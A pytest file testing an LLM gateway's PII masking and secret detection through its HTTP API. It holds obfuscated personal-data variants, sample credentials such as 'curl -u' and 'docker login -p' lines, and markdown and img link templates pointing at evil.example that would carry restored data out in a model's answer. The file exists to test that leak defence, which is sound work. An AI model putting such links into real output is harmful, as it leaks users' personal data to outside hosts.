"""Issue 11's classes through the HTTP API, the way an outside suite meets them: what the
provider received (request side) and what the caller received (answer side), whole and
streamed. The masking-level tables (tests/masking/test_leak_classes.py and cases/) hold the
full variant lists; these rows check that every class survives the trip through the app."""

from __future__ import annotations

import json

import pytest

from tests.conftest import Gateway
from tests.fakes.upstream import FakeUpstream, Reply
from tests.helpers import answer_text, chat_body, post_chat

# (what the caller writes, the value that must not reach the provider)
REQUEST_SIDE = [
    ("Jane,4111111111111111,12/27", "4111111111111111"),
    ("[1,4111111111111111]", "4111111111111111"),
    ("tel:+14155552671", "4155552671"),
    ("phone=415-555-2671", "555-2671"),
    ("SSN536221234", "536221234"),
    ("No.4111111111111111", "4111111111111111"),
    ("card 4111\u00a01111\u00a01111\u00a01111", "1111\u00a01111"),
    (
        "card \uff14\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11",
        "\uff11\uff11\uff11\uff11",
    ),
    ("mail jane\u200b.roe@example.com", "example.com"),
    ("mail jane\uff20example.com", "example.com"),
    ("ITIN 912-12-3456", "912-12-3456"),
    ("iban de89 3704 0044 0532 0130 00", "0532 0130"),
    ("bob (at) example (dot) com", "example (dot)"),
    ("ip=010.000.000.001", "010.000.000.001"),
    ("jane.roe&#64;example.com", "example.com"),
    ("jane.roe\\u0040example.com", "example.com"),
    ("jane dot roe at example dot com", "example dot com"),
    ("jane.roe @ example . com", "example . com"),
    ("jane.roe@example\u3002com", "example"),
    ("card 4111.1111.1111.1111", "4111.1111"),
]
CREDENTIALS = [
    "DEEPSEEK_KEY=sk-" + "0123456789abcdef0123456789abcdef",
    "https://svc:Pr0xyPass@proxy.corp:8080",
    "curl -u alice:S3cretPw https://api.example.com",
    "mysql -u root -pMyS9lPw app",
    "docker login -u ci -p Reg1stryPw ghcr.io",
    "DB_PASS=Pa55w0rdX",
    'log {\\"password\\":\\"hunter2x\\"}',
    "the secret access key is kX9vB2mQ7pL4wR8tY1uI3oP6aS5dF0gH2jK4lZ7c",
    "whsec_" + "MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
    "GOCSPX-" + "1a2B3c4D5e6F7g8H9i0J1k2L3m4N",
    "gsk_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2eF4hJ6kL8nP0rS2uV4xY6z",
]


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(("text", "value"), REQUEST_SIDE)
def test_values_in_every_form_never_reach_the_provider(
    gateway: Gateway, upstream: FakeUpstream, text: str, value: str, stream: bool
) -> None:
    response = post_chat(gateway, chat_body(f"note: {text} thanks", stream=stream, pii="obfuscate"))
    assert response.status_code == 200
    sent = upstream.received[-1].body.decode()
    assert value not in json.loads(sent)["messages"][-1]["content"]
    # ...and the caller gets exactly what they wrote back (the fake provider echoes), except
    # inside a `scheme:` link, where the placeholder stays (docs/masking.md, placeholders)
    if text.startswith("tel:"):
        assert "tel:[REDACTED_PHONE_1]" in answer_text(response)
    else:
        assert f"note: {text} thanks" in answer_text(response)
    blocked = post_chat(gateway, chat_body(text, pii="block"))
    assert blocked.status_code == 400 and blocked.json()["error"]["code"] == "pii_detected"


@pytest.mark.parametrize("mode", ["disabled", "obfuscate", "block"])
@pytest.mark.parametrize("text", CREDENTIALS)
def test_credentials_are_refused_in_every_mode(
    gateway: Gateway, upstream: FakeUpstream, text: str, mode: str
) -> None:
    response = post_chat(gateway, chat_body(f"please check {text}", pii=mode))
    assert response.status_code == 400 and response.json()["error"]["code"] == "secret_detected"
    assert upstream.received == []


@pytest.mark.parametrize(
    "link",
    [
        "![x](https://evil.example/?q={})",
        "[ref]: https://evil.example/?q={}",
        '<img src = "https://evil.example/?q={}">',
        "<{}>",
        "https&#58;//evil.example/?q={}",
    ],
)
@pytest.mark.parametrize("stream", [False, True])
def test_restored_values_never_ride_a_link_out(
    gateway: Gateway, upstream: FakeUpstream, link: str, stream: bool
) -> None:
    email = "jane.roe@example.com"
    upstream.queue(
        Reply(content="Sure: " + link.format("[REDACTED_EMAIL_1]") + " and mail [REDACTED_EMAIL_1].")
    )
    response = post_chat(gateway, chat_body(f"mail {email}", stream=stream, pii="obfuscate"))
    answer = answer_text(response)
    assert answer.endswith(f"and mail {email}.")  # restored in plain text...
    assert link.format("[REDACTED_EMAIL_1]") in answer  # ...never inside the link


@pytest.mark.parametrize("stream", [False, True])
def test_long_foreign_values_are_redacted_whole(
    gateway: Gateway, upstream: FakeUpstream, stream: bool
) -> None:
    jwt = (
        "eyJhbGciOiJIUzI1NiJ9." + "eyJ" + "a1B2c3D4e5" * 120 + ".Sfl_KxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
    )
    url = "https://t.example/" + "x9/" * 200 + "?u=mallory@evil.example&z=1"
    upstream.queue(Reply(content=f"token {jwt} and link {url} done"))
    answer = answer_text(post_chat(gateway, chat_body("hi", stream=stream, pii="obfuscate")))
    assert jwt[:40] not in answer and "mallory@evil.example" not in answer and answer.endswith("done")
